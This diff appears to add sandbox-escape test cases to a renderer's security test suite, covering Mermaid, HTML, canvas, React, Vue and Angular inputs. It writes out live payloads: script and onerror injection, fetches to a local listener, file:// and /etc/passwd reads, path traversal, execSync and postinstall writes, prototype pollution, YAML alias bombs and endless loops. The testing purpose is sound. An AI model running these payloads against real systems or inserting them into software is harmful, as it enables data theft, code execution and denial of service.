@@ -567,6 +567,329 @@ MARKDOWN = {
     ),
 }
 
+
+def flow(*lines: str) -> str:
+    return "\n  ".join(["flowchart TD", "A --> B", *lines])
+
+
+MERMAID = {
+    "click on a call": Attack(flow("click A call alert(1)", "click B fetch"), ("drawn", "syntax")),
+    "click on a link": Attack(
+        flow('click A "javascript:fetch(`http://127.0.0.1:PORT/`)" _self'), ("drawn",)
+    ),
+    "click on a file": Attack(flow('click A "file://CANARY" _blank'), ("drawn",)),
+    "script in a label": Attack(
+        flow("C[\"<script>fetch('http://127.0.0.1:PORT/')</script>x\"]"), ("drawn", "syntax")
+    ),
+    "handler in a label": Attack(
+        flow("C[\"<img src=x onerror='location=`http://127.0.0.1:PORT/`'>\"]"), ("drawn", "syntax")
+    ),
+    "frame in a label": Attack(
+        flow("C[\"<iframe src='file://CANARY'></iframe>\"]"), ("drawn", "syntax")
+    ),
+    "image from elsewhere": Attack(
+        flow('C@{ img: "http://127.0.0.1:PORT/a.png", label: "x", w: 60, h: 60 }'),
+        ("drawn", "syntax"),
+    ),
+    "image of the host": Attack(
+        flow('C@{ img: "file://CANARY", label: "x", w: 60, h: 60 }'), ("drawn", "syntax")
+    ),
+    "style from elsewhere": Attack(
+        '%%{init: {"themeCSS": "@import url(http://127.0.0.1:PORT/a.css); '
+        'g { background: url(http://127.0.0.1:PORT/) }", "fontFamily": "x; } @import url(x);"}}%%\n'
+        + flow(),
+        ("drawn", "syntax"),
+    ),
+    "prototype of all": Attack(
+        '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"x": 1}}}}%%\n'
+        + flow(),
+        ("drawn", "syntax"),
+    ),
+    "configuration bomb": Attack(
+        "---\nconfig:\n  a: &a [x,x,x,x,x,x,x,x,x]\n"
+        + "".join(
+            f"  {name}: &{name} [{','.join(['*' + last] * 9)}]\n"
+            for last, name in zip("abcdefgh", "bcdefghi", strict=True)
+        )
+        + "---\n"
+        + flow(),
+        ("drawn", "syntax", "timeout", "resource"),
+    ),
+    "many edges": Attack(
+        "%%{init: {'maxEdges': 99999999, 'maxTextSize': 99999999}}%%\n"
+        + flow(*(f"N{n} --> N{n * 7 % 5000}" for n in range(5000))),
+        ("drawn", "timeout", "resource", "syntax"),
+    ),
+    "deep subgraphs": Attack(
+        flow(*(f"subgraph S{n}" for n in range(2000)), *["end"] * 2000),
+        ("drawn", "timeout", "resource", "syntax"),
+    ),
+    "long label": Attack(flow(f"C[{'x' * 40_000}]"), ("drawn", "resource", "timeout", "syntax")),
+    "long text": Attack(flow("%% " + "x" * 5_000_000), ("drawn", "syntax", "timeout")),
+    "end of the script": Attack(
+        flow('C["</script><script>for(;;);</script>"]'), ("drawn", "syntax")
+    ),
+    "centuries of days": Attack(
+        "gantt\n  dateFormat YYYY-MM-DD\n  tickInterval 1millisecond\n  A: 0001-01-01, 9999-12-31",
+        ("drawn", "timeout", "resource", "syntax"),
+    ),
+}
+
+
+def shown(script: str) -> str:
+    return f"<body>before<script>{script}</script>"
+
+
+# What a page does is tried with `WEBPAGE`; here is what only whole pages and packages open.
+HTML = {
+    "fetch": Attack(
+        shown(
+            "fetch('http://127.0.0.1:PORT/');new Image().src='http://127.0.0.1:PORT/i.png';"
+            "new WebSocket('ws://127.0.0.1:PORT/');new EventSource('http://127.0.0.1:PORT/')"
+        ),
+        ("drawn",),
+    ),
+    "local file": Attack(
+        shown(
+            "fetch('file://CANARY').then(r=>r.text()).then(t=>document.body.append(t));"
+            "document.body.append(Object.assign(document.createElement('iframe'),"
+            "{src:'file://CANARY'}))"
+        ),
+        ("drawn",),
+    ),
+    "package that climbs": Attack(
+        shown(
+            "for (const up of ['../', '..%2f', '%2e%2e/', '..\\\\'])"
+            "for (const host of ['https://unpkg.com/jquery@3/', 'https://fonts.gstatic.com/',"
+            "'https://code.jquery.com/', '/vendor/', 'https://cdn.jsdelivr.net/npm/'])"
+            "fetch(host + up.repeat(20) + 'CANARY').then(r=>r.text())"
+            ".then(t=>document.body.append(t))"
+        ),
+        ("drawn",),
+    ),
+    "page of many heights": Attack(
+        shown("setInterval(()=>document.body.style.height=Math.random()*1e7+'px',10)"), ("drawn",)
+    ),
+    "page of noise": Attack(
+        "<body style='margin:0'><canvas id=c width=2560 height=10000></canvas><script>"
+        "const g=c.getContext('2d'),d=g.createImageData(2560,10000);let s=1;"
+        "for(let i=0;i<d.data.length;i++)d.data[i]=(s=s*16807%2147483647);g.putImageData(d,0,0)"
+        "</script>",
+        ("drawn", "resource", "timeout"),
+    ),
+    "endless errors": Attack(
+        shown("setInterval(()=>{throw new Error('x'.repeat(1e6))},0)"),
+        ("drawn", "timeout", "resource"),
+    ),
+    "endless messages": Attack(
+        shown("for(;;)console.error('x'.repeat(1e5))"), ("timeout", "resource")
+    ),
+    "endless requests": Attack(
+        shown("(function f(n){fetch('https://example.com/'+n);setTimeout(f,0,n+1)})(0)"),
+        ("drawn", "timeout"),
+    ),
+    "endless loop": Attack(shown("for(;;);"), ("timeout",)),
+    "allocation": Attack(
+        shown("const a=[];for(;;)a.push(new Array(1e4).fill(0.5))"), ("resource",)
+    ),
+}
+CANVAS = {
+    "huge canvas": Attack(
+        "const c=document.getElementById('c');c.width=c.height=60000;"
+        "c.getContext('2d').fillRect(0,0,9,9)",
+        ("drawn", "resource", "syntax"),
+    ),
+    "fetch": Attack(
+        "const i=new Image();i.src='http://127.0.0.1:PORT/';"
+        "i.onload=()=>document.getElementById('c').getContext('2d').drawImage(i,0,0)",
+        ("drawn",),
+    ),
+    "endless loop": Attack("for(;;);", ("timeout",)),
+    "allocation": Attack("const a=[];for(;;)a.push(new Array(1e4).fill(0.5))", ("resource",)),
+}
+REACT = {
+    "packages of Node": Attack(
+        "import {execSync} from 'child_process';execSync('echo gone > CANARY');"
+        "export default () => <p/>",
+        ("syntax",),
+    ),
+    "packages of Node, by their prefix": Attack(
+        "import fs from 'node:fs';fs.writeFileSync('CANARY','gone');export default () => <p/>",
+        ("syntax",),
+    ),
+    "require": Attack(
+        "require('fs').writeFileSync('CANARY','gone');export default () => <p/>", ("syntax",)
+    ),
+    "import of a file": Attack(
+        "import text from 'CANARY';export default () => <p>{text}</p>", ("syntax",)
+    ),
+    "import of a file that climbs": Attack(
+        "import text from '../../../../../../../../..CANARY';export default () => <p>{text}</p>",
+        ("syntax",),
+    ),
+    "import of a file by its address": Attack(
+        "import text from 'file://CANARY';export default () => <p>{text}</p>", ("syntax",)
+    ),
+    "import of a package's insides": Attack(
+        "import {spawn} from 'esbuild';export default () => <p>{spawn}</p>", ("syntax",)
+    ),
+    "import from a host": Attack(
+        "import x from 'http://127.0.0.1:PORT/x.js';export default () => <p>{x}</p>",
+        ("drawn", "syntax"),
+    ),
+    "style sheets": Attack(
+        "import './a.css';export default () => <p>before</p>\n"
+        "/* a.css */\n@import 'CANARY';@import 'file://CANARY';@import '/etc/passwd';"
+        "@import 'bootstrap/../../../../../../CANARY.css';"
+        "p{background:url(CANARY);mask:url(file://CANARY)}",
+        ("drawn", "syntax"),
+    ),
+    "Sass": Attack(
+        "import './a.scss';export default () => <p>before</p>\n"
+        "/* a.scss */\n@use 'sass:meta';@import 'CANARY';@include meta.load-css('file://CANARY');",
+        ("syntax",),
+    ),
+    "Sass without end": Attack(
+        "import './a.scss';export default () => <p>before</p>\n"
+        "/* a.scss */\n@while true { a { b: c } }",
+        ("timeout", "resource"),
+    ),
+    "configuration": Attack(
+        "// tsconfig.json\n"
+        '{"extends": "CANARY", "compilerOptions": {"plugins": [{"name": "CANARY"}]}}\n'
+        "// package.json\n"
+        '{"main": "CANARY", "scripts": {"postinstall": "echo gone > CANARY"}}\n'
+        "// .babelrc.json\n"
+        '{"plugins": ["CANARY"]}\n'
+        "// App.jsx\nexport default () => <p>before</p>",
+        ("drawn",),
+    ),
+    "pragma": Attack(
+        "/** @jsxImportSource CANARY */export default () => <p>before</p>", ("syntax",)
+    ),
+    "source map": Attack(
+        "export default () => { throw new Error('no') }\n//# sourceMappingURL=file://CANARY",
+        ("syntax",),
+    ),
+    "deep nesting": Attack(
+        "export default () => " + "<a>" * 50_000 + "</a>" * 50_000, ("syntax", "resource", "drawn")
+    ),
+    "deep brackets": Attack(
+        "export default () => " + "(" * 200_000, ("syntax", "resource", "timeout")
+    ),
+    "giant code": Attack(
+        "export default () => <p>{[" + "'xxxxxxxx'," * 800_000 + "].length}</p>",
+        ("drawn", "timeout", "resource"),
+    ),
+    "endless rendering": Attack(
+        "export default () => { for(;;); }",
+        ("timeout",),
+    ),
+    "fetch": Attack(
+        "import {useEffect} from 'react';export default () => {"
+        "useEffect(()=>{fetch('http://127.0.0.1:PORT/');fetch('file://CANARY')});return <p>a</p>}",
+        ("drawn",),
+    ),
+}
+VUE = {
+    "packages of Node": Attack(
+        "<script setup>import {execSync} from 'child_process'; execSync('echo gone > CANARY')"
+        "</script><template><p/></template>",
+        ("syntax",),
+    ),
+    "blocks in files": Attack(
+        "<template src='CANARY'></template><script src='/etc/passwd'></script>"
+        "<style src='file://CANARY'></style>",
+        ("syntax",),
+    ),
+    "type from a file": Attack(
+        "<script setup lang='ts'>import type {Secret} from 'CANARY'; defineProps<Secret>()"
+        "</script><template><p>{{ $props }}</p></template>",
+        ("syntax",),
+    ),
+    "types of a path": Attack(
+        "<script setup lang='ts'>import {Secret} from '../../../../../..CANARY';"
+        "defineProps<Secret>()</script><template><p/></template>",
+        ("syntax",),
+    ),
+    "other languages": Attack(
+        "<template lang='ejs'><% require('fs').writeFileSync('CANARY', 'gone') %></template>",
+        ("syntax",),
+    ),
+    "style of another language": Attack(
+        "<template><p>before</p></template>"
+        "<style lang='stylus'>json('CANARY')\np\n  color red</style>",
+        ("drawn", "syntax"),
+    ),
+    "code in a style": Attack(
+        "<template><p>before</p></template><style>p { color: v-bind('process.exit(1)') }</style>",
+        ("drawn", "syntax"),
+    ),
+    "template without end": Attack(
+        "<template><p>{{ (() => { for(;;); })() }}</p></template>", ("timeout",)
+    ),
+    "slow pattern": Attack(
+        "<template>" + "<" * 100_000 + "</template><style scoped>" + ":is(" * 20_000 + "</style>",
+        ("syntax", "timeout", "resource"),
+    ),
+    "deep nesting": Attack(
+        "<template>" + "<p>" * 20_000 + "</p>" * 20_000 + "</template>",
+        ("syntax", "resource", "drawn", "timeout"),
+    ),
+}
+ANGULAR = {
+    "packages of Node": Attack(
+        "import {Component} from '@angular/core'; import fs from 'fs';"
+        "@Component({template: ''}) export class A { a = fs.readFileSync('CANARY') }",
+        ("syntax",),
+    ),
+    "template from a file": Attack(
+        "import {Component} from '@angular/core';"
+        "@Component({templateUrl: 'CANARY', styleUrls: ['CANARY']}) export class A {}",
+        ("syntax",),
+    ),
+    "template from a host": Attack(
+        "import {Component} from '@angular/core';"
+        "@Component({templateUrl: 'http://127.0.0.1:PORT/a.html'}) export class A {}",
+        ("syntax",),
+    ),
+    "references": Attack(
+        "/// <reference path='CANARY' />\n/// <reference types='CANARY' />\n"
+        "import {Component} from '@angular/core';"
+        "@Component({template: 'before'}) export class A {}",
+        ("drawn",),
+    ),
+    "code in a decorator": Attack(
+        "import {Component} from '@angular/core';"
+        "@Component({template: process.mainModule.require('fs').readFileSync('CANARY')})"
+        "export class A {}",
+        ("syntax",),
+    ),
+    "scripts in a template": Attack(
+        "import {Component} from '@angular/core';@Component({template: `before"
+        "<script>fetch('http://127.0.0.1:PORT/')</script><img src=x "
+        "onerror=\"fetch('http://127.0.0.1:PORT/')\">`}) export class A {}",
+        ("drawn",),
+    ),
+    "endless loop": Attack(
+        "import {Component} from '@angular/core';"
+        "@Component({template: ''}) export class A { constructor() { for(;;); } }",
+        ("timeout",),
+    ),
+    "endless changes": Attack(
+        "import {Component} from '@angular/core';"
+        "@Component({template: '{{ f() }}'}) export class A { f() { return Math.random() } }",
+        ("drawn", "syntax", "timeout"),
+    ),
+    "endless types": Attack(
+        "import {Component} from '@angular/core';"
+        "type T<A> = A extends string ? T<[A]> | T<{a: A}> : T<string>; let t: T<'a'>;"
+        "@Component({template: 'before'}) export class A { constructor(t: T<string>) {} }",
+        ("drawn", "syntax", "timeout", "resource"),
+    ),
+}
+
+
 ATTACKS = {
     "latex": LATEX,
     "webpage": WEBPAGE,
@@ -578,4 +901,10 @@ ATTACKS = {
     "vega": VEGA,
     "svg": SVG,
     "markdown": MARKDOWN,
+    "mermaid": MERMAID,
+    "html": HTML,
+    "canvas": CANVAS,
+    "react": REACT,
+    "vue": VUE,
+    "angular": ANGULAR,
 }
